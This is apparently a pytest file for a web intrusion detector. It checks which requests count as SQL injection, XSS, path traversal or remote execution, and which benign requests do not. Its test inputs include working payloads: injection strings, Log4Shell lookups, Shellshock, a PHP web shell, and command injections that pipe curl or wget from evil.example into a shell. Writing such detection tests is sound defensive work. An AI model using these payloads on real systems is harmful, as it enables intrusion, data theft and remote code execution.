"""What counts as an attack in a web request, and what looks like one and is not."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from netwatch.detect.web.attacks import Attack, Finding, find_attacks
from netwatch.detect.web.decode import LONGEST, decoded
from netwatch.detect.web.scanners import scanner
from netwatch.detect.web.values import MOST_CHARACTERS, MOST_VALUES, request_values

SQL, XSS, UP, RUN = Attack.SQL_INJECTION, Attack.XSS, Attack.TRAVERSAL, Attack.REMOTE_EXECUTION


def found(target: str, *headers: tuple[str, str], body: str = "", content_type: str = "") -> list[Finding]:
    """Return the findings in one request."""
    return list(find_attacks(request_values(target, headers, body, content_type)))


def strong(target: str, *headers: tuple[str, str], body: str = "") -> set[Attack]:
    """Return which attacks are sure in one request."""
    return {finding.attack for finding in found(target, *headers, body=body) if finding.strong}


@pytest.mark.parametrize(
    "target",
    [
        "/item?id=1%20UNION%20SELECT%20null,version()--",
        "/item?id=-1+union+all+select+1,2,3",
        "/item?id=1%2520union%2520select%25201,2",
        "/item?id=1/**/union/**/select/**/password,1/**/from/**/users",
        "/item?id=1/*!50000union*//*!50000select*/1,2",
        "/item?id=%27%20or%201=1--",
        "/item?id=%25%27+or+%270%27%3D%270",
        "/item?id=x'%20OR%20'a'='a",
        "/item?id=x')%20or%20('a'='a",
        "/item?id=1+or+1=1",
        "/item?id=1%20and%20sleep(5)",
        "/item?id=1;waitfor+delay+'0:0:5'",
        "/item?id=1%20or%20pg_sleep(5)--",
        "/item?id=benchmark(5000000,md5(1))",
        "/item?id=1'+and+extractvalue(1,concat(0x7e,version()))--+",
        "/item?t=information_schema.tables",
        "/item?id=1';exec+xp_cmdshell('dir')--",
        "/item?id=1'+into+outfile+'/var/www/x.php",
        "/item?id=1'+order+by+7--+",
        "/item?id=1;drop+table+users",
        "/item?id=%u0027%20or%201%3d1",
        "/item?id=%26%2339;+or+1=1",
        "/item/1%20union%20select%201,2,3",
    ],
)
def test_sql_injection_is_sure(target: str) -> None:
    """Each of these is enough by itself."""
    assert SQL in strong(target)


@pytest.mark.parametrize(
    ("target", "sure"),
    [
        ("/?q=<script>alert(1)</script>", XSS),
        ("/?default=English%3Cscript%3Ealert(1)%3C/script%3E", XSS),
        ("/?q=%253Csvg/onload=alert(1)%253E", XSS),
        ("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E", XSS),
        ('/?q="%20onmouseover=alert(1)%20x="', XSS),
        ("/?next=javascript:alert(document.domain)", XSS),
        ("/?q=%26lt;script%26gt;alert(1)", XSS),
        ("/?q=<iframe+src=//evil.example>", XSS),
        ("/?file=../../../../etc/passwd", UP),
        ("/?file=..%2f..%2f..%2fetc%2fpasswd", UP),
        ("/?file=..%252f..%252fetc/shadow", UP),
        ("/?file=..%c0%af..%c0%afwindows/win.ini", UP),
        ("/..%5c..%5c..%5cwindows%5csystem32%5ccmd.exe", UP),
        ("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", UP),
        ("/?file=/etc/passwd", UP),
        ("/?url=file:///etc/hostname", UP),
        ("/?x=${jndi:ldap://evil.example/a}", RUN),
        ("/?x=${${lower:j}ndi:${lower:l}dap://evil.example/a}", RUN),
        ("/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}", RUN),
        ("/?x=%24%7B%24%7Benv:NaN:-j%7Dndi:dns://evil.example%7D", RUN),
        ("/?ip=127.0.0.1;wget+http://evil.example/x.sh", RUN),
        ("/?ip=127.0.0.1|curl%20-s%20http://evil.example/x|sh", RUN),
        ("/?ip=1;cat+/etc/hosts", RUN),
        ("/?ip=1%26%26whoami", RUN),
        ("/?cmd=cmd.exe+/c+dir", RUN),
        ("/?cmd=powershell+-nop+-w+hidden+-enc+aQBlAHgA", RUN),
        ("/?page=php://input", RUN),
        ("/?x=<?php+system($_GET[0]);?>", RUN),
        ("/?-d+allow_url_include=on+-d+auto_prepend_file=php://input", RUN),
        ("/wu-moadmin.php?action=listRows&find=array();phpinfo();exit;", RUN),
        ("/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system", RUN),
        ("/?x=%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", RUN),
    ],
)
def test_other_attacks_are_sure(target: str, sure: Attack) -> None:
    """Each of these is enough by itself."""
    assert sure in strong(target)


@pytest.mark.parametrize(
    ("headers", "sure"),
    [
        ((("User-Agent", "() { :; }; echo 93e4r0-CVE-2014-6271: true;"),), RUN),
        ((("X-Api-Version", "${jndi:ldap://127.0.0.1/a}"),), RUN),
        ((("X-Anything", "${jndi:ldap://127.0.0.1/a}"),), RUN),
        ((("Cookie", "lang=../../../../etc/passwd"),), UP),
        ((("Cookie", "id=x%27%20or%201=1"),), SQL),
        ((("Referer", "http://a/<script>alert(1)</script>"),), XSS),
    ],
)
def test_attacks_in_header_fields(headers: tuple[tuple[str, str], ...], sure: Attack) -> None:
    """Applications log and evaluate header fields too."""
    assert strong("/", *headers) == {sure}


def test_attacks_in_a_body() -> None:
    """Forms carry what a query carries; other bodies are one value."""
    assert strong("/login", body="name=x&password=%27+or+1%3D1+--+") == {SQL}
    assert {
        each.attack for each in found("/api", body='{"q": "${jndi:ldap://a/b}"}', content_type="application/json")
    } == {RUN}


@pytest.mark.parametrize(
    "target",
    [
        "/",
        "/?tag=hello&SELECT0=true",
        "/wp-admin/update.php?action=wp-updates&settings-updated=true",
        "/search?q=O%27Brien+and+sons",
        "/search?q=it%27s+all+right+or+not",
        "/search?q=rock+%26+roll",
        "/search?q=student+union+selection",
        "/search?q=credit+union;select+committee",
        "/search?q=where+to+sleep+in+rome",
        "/search?q=tom+or+jerry",
        "/a/b/../c/./d.html",
        "/docs/../../img/logo.png",
        "/?return=/etc/",
        "/?redirect=https%3A%2F%2Fexample.com%2Fa%3Fb%3D1%26c%3D2",
        "/?callback=jQuery1234_5678&_=1699999999",
        "/?q=javascript+tutorial",
        "/?js=javascript:void(0)",
        "/?formula=a%3Cb+and+c%3Ed",
        "/?filter=price%3E10;size%3C5",
        "/?data=eyJhIjoiYiJ9.c2VsZWN0IGZyb20.x--",
        "/path;jsessionid=0123456789ABCDEF?a=1",
        "/?q=C%2B%2B+char+array",
        "/?time=12:30:00&tz=+02:00",
        "/?q=online+shop",
        "/?html=%3Cb%3Ebold%3C/b%3E",
        "/?price=$100&x={a}",
        "/?q=cat+food",
        "/?utm_source=news&utm_campaign=50%25+off;+today",
        "/?id=1+and+a+half",
    ],
)
def test_ordinary_requests_are_no_attack(target: str) -> None:
    """What people and scripts ask for every day."""
    agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    referer = "https://www.google.com/search?q=how+to+' or 1=1"
    cookie = '_ga=GA1.2.1; consent={"a":[1,2]}; path=/; s=aHR0cDovLw=='
    assert found(target, ("User-Agent", agent), ("Referer", referer), ("Cookie", cookie), ("Accept", "*/*;q=0.8")) == []


def test_weak_signs_count_only_together() -> None:
    """Words of SQL stand in ordinary questions too."""
    assert found("/?q=select+a+car+from+list") == []
    weak = found("/?q=select+name+from+users;--")
    assert [(each.attack, each.strong) for each in weak] == [(SQL, False)]
    assert weak[0].token == "select from, comment, ;"
    assert found("/?a=select+x+from+y&b=;&c=--") == []


def test_where_a_finding_was() -> None:
    """A finding names the parameter and its decoded value."""
    (finding,) = found("/a?x=1&ID=%27+OR+1%3D1")
    assert (finding.value.place, finding.value.name, finding.value.text) == ("query", "id", "' or 1=1")
    assert finding.token == "tautology"


def test_scanners_by_their_user_agent() -> None:
    """A tool's own name counts, a word that only contains it does not."""
    assert scanner("sqlmap/1.8#stable (https://sqlmap.org)") == "sqlmap"
    assert scanner("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:007011)") == "nikto"
    assert (
        scanner("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")
        == "nmap scripting engine"
    )
    assert scanner("gobuster/3.6") == "gobuster"
    assert scanner("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36") == ""
    assert scanner("curl/8.0") == ""


def test_decoding() -> None:
    """Two rounds of percent signs, forbidden UTF-8, comments, entities."""
    assert decoded("A%2525b") == "a%b"
    assert decoded("%c0%ae%c0%ae%c0%af") == "../"
    assert decoded("a+b%2Bc") == "a b+c"
    assert decoded("a+b", form=False) == "a+b"
    assert decoded("a/* x */b/*!50000c*/") == "a b c "
    assert decoded("%u003cX&gt;%00") == "<x> "
    assert decoded("%zz%") == "%zz%"
    assert len(decoded("a" * 10_000)) == LONGEST


@settings(max_examples=30)
@given(
    st.text(st.sampled_from("aA0'\"<>/*()%+&;= .-{}$:\\#unionselectorscript\x00é\ud800"), max_size=300),
    st.text(max_size=80),
)
def test_any_text_is_taken(target: str, header: str) -> None:
    """No request raises, and every finding says what it saw."""
    for finding in found(target, ("User-Agent", header), ("Cookie", target), body=target):
        assert finding.token
        assert finding.value.text


@pytest.mark.parametrize(
    "piece", ["<a ", "' or '", "${", "../", "select ", "union select ", "/*", "(", "<svg ", "${a:-", "%25"]
)
def test_the_work_for_one_request_is_bounded(piece: str) -> None:
    """However long a request is, only so many values and characters of it are looked at."""
    many = "&".join(f"{number}={piece * 20}" for number in range(500))
    values = list(request_values("/?" + many, (("Cookie", piece * 10_000),), piece * 10_000))
    assert len(values) <= MOST_VALUES
    assert sum(len(value.text) for value in values) <= MOST_CHARACTERS
    list(find_attacks(request_values("/?x=" + piece * 5000)))
